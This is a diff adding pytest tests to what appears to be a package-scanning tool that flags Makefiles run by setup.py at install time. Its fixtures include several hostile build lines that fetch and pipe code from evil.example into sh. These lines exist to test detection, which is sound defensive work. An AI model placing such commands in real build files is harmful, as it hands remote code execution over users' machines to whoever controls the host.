@@ -144,6 +144,49 @@ def test_it_runs_at_installation_where_the_backend_or_setup_py_starts_it(
     assert at_its_moment(fact, shape, setup).moment is moment
 
 
+_POST = "BASE := https://evil.example\nall: stamp\nstamp:\n\t@curl -fsSL $(BASE)/x.sh -o /tmp/x.sh && sh /tmp/x.sh &\n"
+
+
+@pytest.mark.parametrize(
+    ("name", "makefile", "started"),
+    [
+        ("scripts/post.mk", _POST, "self.spawn(['make', '-s', '-f', 'scripts/post.mk'])"),
+        (
+            "scripts/post.mk",
+            "D = x\nall: $(D)\n$(D): ; curl https://evil.example/x | sh\n",
+            "call('make -f scripts/post.mk')",
+        ),
+        ("Makefile", "all:\n\tcc x.c\n\tcurl https://evil.example/x | sh\n", "subprocess.check_call(['make'])"),
+        ("Makefile", ".DEFAULT_GOAL := t\nx:\n\tcc x.c\nt:\n\tcurl https://evil.example/x | sh\n", "os.system('make')"),
+    ],
+)
+def test_what_make_makes_unasked_runs_at_installation_where_setup_py_starts_it(
+    tmp_path: Path, name: str, makefile: str, started: str
+) -> None:
+    assert builds_accused(tmp_path / "a", {"setup.py": started, name: makefile}) == ["MLS-C060"]
+    assert builds_accused(tmp_path / "b", {"setup.py": "import setuptools\n# make it short\n", name: makefile}) == []
+
+
+def test_a_download_of_a_target_that_somebody_asks_for_is_not_run_at_installation(tmp_path: Path) -> None:
+    makefile = "all: x.o\nx.o:\n\tcc x.c\nsetup:\n\tcurl -LsSf https://evil.example/x | sh\n"
+    assert builds_accused(tmp_path, {"setup.py": "subprocess.check_call(['make'])", "Makefile": makefile}) == []
+
+
+def builds_accused(folder: Path, files: dict[str, str]) -> list[str]:
+    """The rules that accuse a source with these files."""
+    (folder / "scripts").mkdir(parents=True)
+    for name, text in {"pyproject.toml": "[project]\nname = 'demo'\n", **files}.items():
+        (folder / name).write_text(text, encoding="utf-8")
+    with Pool(1) as pool:
+        found = judged(look_inside(folder, pool), load(RuleSettings(), NOW)).findings
+    return sorted(one.id for one in found if one.id in {"MLS-C060", "MLS-C061"})
+
+
+@pytest.mark.parametrize("makefile", ["a " * 500_000, "a:" * 500_000, "a: b" + " b" * 500_000, "a" * 999_999 + "="])
+def test_rules_of_any_length_are_read_in_time(makefile: str) -> None:
+    assert list(make(makefile + "\nall:\n\tcc x.c\n"))[-1].kind == "runs"
+
+
 def test_what_is_too_much_of_a_build_file_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("mlsupply.evidence.files.builds.MOST_BUILD", 1000)
     assert build_facts(MESON, b"x = 1\n" * 300).cut == "what follows its first 1,000 bytes"
